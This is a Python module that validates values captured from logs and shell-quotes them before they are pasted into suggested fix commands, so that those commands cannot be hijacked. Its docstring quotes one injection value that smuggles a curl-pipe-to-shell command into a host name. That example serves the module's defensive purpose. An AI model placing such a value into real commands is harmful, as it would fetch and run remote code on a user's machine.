"""Captured values pasted into suggested commands, safely (issue 14, Medium 4).

A quick fix like `ssh-keygen -R {{host}}` is filled with text taken from the log, and the log is not
errdiag's: `github.com;curl${IFS}evil|sh` must not become a command a reader copies and runs. So:

- a value that does not look like what its placeholder stands for (a host, a port, a package name, a
  path, a branch, a command name ...) is not pasted at all: the command keeps `<name>`;
- a value that does look right is quoted for where the placeholder sits in the command: `shlex.quote`
  outside quotes (a no-op for plain words), refused inside single quotes if it holds a `'`, refused
  inside double quotes if it holds `"`, `$`, a backtick, `\\` or `!`.
"""

from __future__ import annotations

import re
import shlex

_WORD = r"[^\s;|&$`'\"(){}\\<>*?!#]+"  # one shell word with nothing the shell would act on
_SHAPES: dict[str, re.Pattern[str]] = {}


def _shape(names: str, pattern: str) -> None:
    rx = re.compile(pattern)
    for n in names.split():
        _SHAPES[n] = rx


_HOST = r"(?:[A-Za-z0-9](?:[A-Za-z0-9.-]*[A-Za-z0-9])?|\[[A-Za-z0-9:.-]+\])(?::\d{1,5})?"
_shape("host hostname domain server peer", rf"^{_HOST}$")
_shape("url upstream website endpoint registry",
       rf"^(?:[A-Za-z][A-Za-z0-9+.-]*://[^\s'\"`$\\;|&<>(){{}}!]+|{_HOST})$")
_shape("port line pos", r"^\d{1,6}$")
_shape("path dir file dst known_hosts lockfile script bin src key lib at_file source_file class_path location",
       r"^[^\x00-\x1f;|&$`'\"\\<>*?!#]+$")
# a log file a tool names: a Windows path keeps its backslashes (the command puts it in single quotes)
_shape("log", r"^[^\x00-\x1f;|&$`'\"<>*?!#]+$")
_shape("branch tag remote ref", r"^[^\s~^:?*\[\\;|&$`'\"(){}<>!#]+$")
# a test's or a thing's name may hold spaces and punctuation: quoting (below) is what makes it safe
_shape("name test test_id title message", r"^[^\x00-\x1f`$\\]+$")
_shape("package module formula cask polyfill image unit container fixture model group user page pkg class "
       "owner app resource env iface symver requirement tool",
       r"^[A-Za-z0-9@_.][^\s;|&$`'\"(){}\\*?!#]*$")
_shape("arg", rf"^{_WORD}$")
# space-separated lists: each word is checked and quoted on its own (`rerun` is derived arguments)
_LISTS = {"packages": "package", "modules": "module", "formulae": "formula", "rerun": "arg", "failed": "arg",
          "help_cmd": "arg", "program": "arg"}  # a program and its subcommand (`go help install`): words of a command
_DEFAULT = re.compile(rf"^{_WORD}$")


def looks_like(name: str, value: str) -> bool:
    """Whether `value` has the shape the placeholder `name` stands for (length-bounded)."""
    if not value or len(value) > 300 or "\n" in value:
        return False
    if name in _LISTS:
        return all(_SHAPES[_LISTS[name]].match(v) for v in value.split())
    return bool(_SHAPES.get(name, _DEFAULT).match(value))


def quote_context(template: str, at: int) -> str:
    """'' (unquoted), "'" or '"': the shell quoting in force at offset `at` of `template`.

    `$( ... )` opens a fresh context, even inside double quotes (`"$(dirname "{{dir}}")"`).
    """
    stack: list[str] = []
    state = ""
    i = 0
    while i < at:
        c = template[i]
        if state == "'":
            if c == "'":
                state = ""
        elif c == "\\":
            i += 1
        elif c == "$" and template[i + 1: i + 2] == "(":
            stack.append(state)
            state = ""
            i += 1
        elif c == ")" and state == "" and stack:
            state = stack.pop()
        elif state == "" and c in "'\"":
            state = c
        elif state == '"' and c == '"':
            state = ""
        i += 1
    return state


def fill_value(template: str, at: int, name: str, value: str | None) -> str:
    """The text to put at offset `at` of a command for placeholder `name`: the value made safe, or `<name>`."""
    core = (value or "").strip(" ")
    if not core or not looks_like(name, core):
        return f"<{name}>"
    lead, trail = value[: len(value) - len(value.lstrip(" "))], value[len(value.rstrip(" ")):]
    value = core
    ctx = quote_context(template, at)
    if ctx == "'":
        return value if "'" not in value else f"<{name}>"
    if ctx == '"':
        return value if not re.search(r"[\"$`\\!]", value) else f"<{name}>"
    if name in _LISTS:
        return lead + " ".join(shlex.quote(v) for v in value.split()) + trail
    return lead + shlex.quote(value) + trail  # a capture may carry the space the template relies on
